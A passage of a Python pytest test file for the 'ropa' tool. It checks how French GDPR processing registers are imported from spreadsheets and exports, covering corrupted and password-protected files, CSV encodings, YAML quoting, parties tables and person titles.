    assert "des macros : elles ne sont ni exécutées ni reprises" in done.stderr
    assert len(read_register(tmp_path / "out").activities) == 1


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("vide.xlsx", None, "aucune feuille n'a la forme du modèle"),
        ("corrompu.xlsx", b"PK\x03\x04 this is not a workbook", "fichier endommagé ou d'un autre format (ce n'est pas une archive zip)"),
        ("tronque.xlsx", "half", "fichier endommagé"),
        ("feuille-cassee.xlsx", "bad-sheet", "feuille « Fiche EC-01 » : fichier endommagé"),
        ("protege.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504, "protégé par un mot de passe"),
        ("zero.ods", b"", "le fichier est vide"),
        ("chiffre.ods", "encrypted-ods", "protégé par un mot de passe"),
        ("faux.json", b'{"activities": [', "ce n'est pas un export JSON de ropa : Expecting value, colonne 17"),
        ("autre.csv", b"a,b\n1,2\n", "ce n'est pas un export CSV de ropa : aucune colonne « Nom du traitement » ni « N° / RÉF »"),
    ],
)
def test_unreadable_files(name: str, content: bytes | str | None, expected: str, ropa: Runner, tmp_path: Path) -> None:
    path = tmp_path / name
    if content is None:
        openpyxl.Workbook().save(path)
    elif content == "encrypted-ods":
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            archive.writestr("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                             'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml">'
                             '<manifest:encryption-data/></manifest:file-entry></manifest:manifest>')
            archive.writestr("content.xml", b"\x8f\x12 encrypted bytes")
    elif content == "bad-sheet":
        build(tmp_path / "full.xlsx")
        with zipfile.ZipFile(tmp_path / "full.xlsx") as src, zipfile.ZipFile(path, "w") as dst:
            for member in src.namelist():
                data = src.read(member)
                dst.writestr(member, data[: len(data) // 2] if member == "xl/worksheets/sheet6.xml" else data)
    elif content == "half":
        build(tmp_path / "full.xlsx")
        data = (tmp_path / "full.xlsx").read_bytes()
        path.write_bytes(data[: len(data) // 2])
    else:
        assert isinstance(content, bytes)
        path.write_bytes(content)
    done = imported(ropa, path, tmp_path / "out")
    no_traceback(done)
    assert done.returncode == 1, done.stderr
    assert expected in done.stderr
    assert name in done.stderr
    assert not (tmp_path / "out" / "register").exists()


def test_messages_in_english(ropa: Runner, tmp_path: Path) -> None:
    path = tmp_path / "protected.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    done = imported(ropa, path, tmp_path / "out", "--lang", "en")
    assert done.returncode == 1
    assert "the workbook is password-protected" in done.stderr


def test_usage_errors(ropa: Runner, tmp_path: Path) -> None:
    missing = ropa("import", tmp_path / "absent.xlsx", "--root", tmp_path)
    assert missing.returncode == 2 and "no such file" in missing.stderr
    odd = tmp_path / "registre.txt"
    odd.write_text("x", encoding="utf-8")
    unknown = ropa("import", odd, "--root", tmp_path)
    assert unknown.returncode == 2 and "--format" in unknown.stderr


def test_the_new_register_s_folder_is_made(exports: dict[str, Path], ropa: Runner, tmp_path: Path) -> None:
    """``--root ../nouveau``: the import makes the folder of the register it writes, in a folder
    that exists (not a typo's whole path); a dry run makes nothing."""
    dry = ropa("import", exports["json"], "--root", tmp_path / "essai", "--dry-run")
    assert dry.returncode == 0 and not (tmp_path / "essai").exists(), dry.stderr
    done = ropa("import", exports["json"], "--root", tmp_path / "nouveau")
    assert done.returncode == 0 and (tmp_path / "nouveau" / "register" / "organization.yaml").is_file(), done.stderr
    deep = ropa("import", exports["json"], "--root", tmp_path / "absent" / "nouveau")
    assert deep.returncode == 2 and "--root" in deep.stderr and not (tmp_path / "absent").exists()


def test_csv_saved_again_by_excel_in_french(exports: dict[str, Path], ropa: Runner, tmp_path: Path) -> None:
    """Semicolons and Windows-1252, as Excel saves a CSV on a French system."""
    rows = list(csv.reader(exports["csv"].read_text(encoding="utf-8").splitlines(keepends=True)))
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    source = tmp_path / "registre-excel.csv"
    source.write_bytes(out.getvalue().encode("cp1252", errors="replace"))
    done = imported(ropa, source, tmp_path / "out")
    assert done.returncode == 0, done.stderr
    again = by_name(read_register(tmp_path / "out"))[0]
    original = by_name(read_register(REPO))
    lossy("csv", *original)
    assert again == original[0]


def test_into_a_repository_made_by_ropa_init(exports: dict[str, Path], ropa: Runner, tmp_path: Path) -> None:
    """The organisation file of ropa init is kept; the parties to add to it are listed."""
    made = ropa("init", tmp_path / "repo")
    assert made.returncode == 0, made.stderr
    before = (tmp_path / "repo" / "register" / "organization.yaml").read_bytes()
    done = imported(ropa, exports["xlsx"], tmp_path / "repo")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "repo" / "register" / "organization.yaml").read_bytes() == before
    assert "partie « voxcloud » (VoxCloud Inc., processor) absente de" in done.stdout
    assert len(list((tmp_path / "repo" / "register" / "activities").glob("*.yaml"))) == 6


def test_writer_quotes_what_yaml_would_misread() -> None:
    from generator.importer import Entry, Where, writer
    from generator.load.yamlload import parse

    tricky = ["no", "Non", "69003", "0612", "2020-01-01T10:00:00", "1e3", "0x1F", "true", "~", "null", "",
              "a: b", "x #y", "#z", "- w", "@v", "*a", "&b", "!t", "%p", "'q'", '"r"', " lead", "trail ",
              "[l]", "{m}", "?", "a\nb", "tab\there", "= formule", "+33 4 72", "1:30", "À COMPLÉTER : x"]
    long_text = " ".join(["mot"] * 60) + " #fin : oui"
    data = {"id": "x", "name": long_text, "notes": tricky, "purposes": {"main": "a : b", "sub": tricky}}
    text = writer.render(Entry("activity", data, Where("f.xlsx")), "fr", ["en-tête"])
    assert parse(text, Path("x.yaml"), "x.yaml").data == data
    assert "name: >-\n" in text  # a long text is folded, as the register's own files are


def test_parties_in_ropa_exports_two_tables_or_the_older_one() -> None:
    """ropa export gives the parties in two tables, each starting with the name; older exports
    in one table. Both read the same, and two parties of one name stay two rows."""
    from generator.importer import Where
    from generator.importer.cnil import read_org

    who = ["Nom", "Type de partie", "Identifiant", "Description", "Adresse"]
    reach = ["Nom", "Adresse mél", "Téléphone", "Personne à contacter"]
    a = ["Artemis", "Responsable du traitement (client)", "artemis", "Client", "140 bd Haussmann, 75008 Paris"]
    b = ["Artemis", "Sous-traitant", "artemis-2", "Homonyme", None]
    two = [["Parties"], who, a, b, [], reach, ["Artemis", "contact@artemis.example", None,
                                               "M. Paul Friand, Directeur, p.friand@artemis.example"],
           ["Artemis", "autre@artemis.example"]]
    one = [["Parties"], who + reach[1:], [*a, "contact@artemis.example", None, "M. Paul Friand, Directeur, p.friand@artemis.example"],
           [*b, "autre@artemis.example"]]

    def parties(rows: list[list[Any]]) -> list[dict[str, Any]]:
        found = read_org(iter(enumerate(rows, start=1)), Where("f.xlsx", "Organisme et parties"))
        return [{k: v.value for k, v in p.items()} for p in found.parties]

    assert parties(two) == parties(one)
    assert [(p["id"], p["email"]) for p in parties(two)] == [
        ("artemis", "contact@artemis.example"), ("artemis-2", "autre@artemis.example")]
    assert parties(two)[0]["contact"] == "M. Paul Friand, Directeur, p.friand@artemis.example"


def test_transfer_address_typed_in_the_link_column(exports: dict[str, Path], ropa: Runner, tmp_path: Path) -> None:
    """The export writes the address in « Liens vers la documentation » and « Ouvrir » under
    « Lien »; a DPO who types the address under « Lien » instead has it read too."""
    source = tmp_path / "registre.xlsx"
    wb = openpyxl.load_workbook(exports["xlsx"])
    ws = next(ws for ws in wb.worksheets if ws.title.startswith("ST-ART-02"))
    row = next(r for r in ws.iter_rows() if r[5].value == "Ouvrir")
    address = row[3].value
    row[3].value, row[5].value = None, address
    wb.save(source)
    done = imported(ropa, source, tmp_path / "out")
    assert done.returncode == 0, done.stderr
    routing = next(a for a in read_register(tmp_path / "out").activity_data() if a["ref"] == "ST-ART-02")
    assert routing["transfers"][0]["documentation"] == address
    assert "Ouvrir" not in strings(routing)


@pytest.mark.parametrize("scale", [
    {"data_subjects": 12000, "large": False, "details": "Salariés d'un seul site"},
    {"large": True}, {"data_subjects": 1}, {"details": "Toute la commune — 4 000 habitants"},
])
@pytest.mark.parametrize("lang", ["fr", "en"])
def test_a_scale_in_the_exports_words_is_read_back(scale: dict[str, Any], lang: str) -> None:
    """The scale (issue 11) as the XLSX writes it, in either language, gives the same fields back;
    other words are kept as the scale's details, not taken for an assessment."""
    from generator.importer.mapping import scale_words
    from generator.render import i18n

    assert scale_words(i18n.format_scale(scale, lang)) == scale
    assert scale_words("Grande échelle : oui, sans doute") == {"details": "Grande échelle : oui, sans doute"}


@pytest.mark.parametrize(("line", "title"), [
    ("Mme Claire Vasseur", "Mme"), ("Madame Claire Vasseur", "Mme"), ("M. Julien Morel", "M."),
    ("Monsieur Julien Morel", "M."), ("Mx Sam Leroy", "Mx"), ("Me Anne Roche", "Me"),
    ("Mr John Smith", "M."), ("Ms Jane Smith", "Mme"), ("Mrs Jane Smith", "Mrs"), ("Miss Jane Smith", "Miss"),
    ("Dr Tom Berger", "Dr"), ("Pr Ada Byron", "Pr"), ("Prof. Ada Byron", "Pr"), ("Maître Anne Roche", "Me"),
    ("Claire Vasseur", None),
])
def test_a_title_is_read_as_its_code(line: str, title: str | None) -> None:
    """A title in either language's words is its person_title code; "Mr" and "Ms", which
    ``ropa export --lang en`` writes for « M. » and « Mme », are read as those (the round trip of
    a French register through an English workbook); the French words spelled out too."""
    from generator.importer.people import person

    found = person(f"{line} (Direction)")
    assert found is not None and found.get("title") == title and found["last_name"] in line.split()[-1]
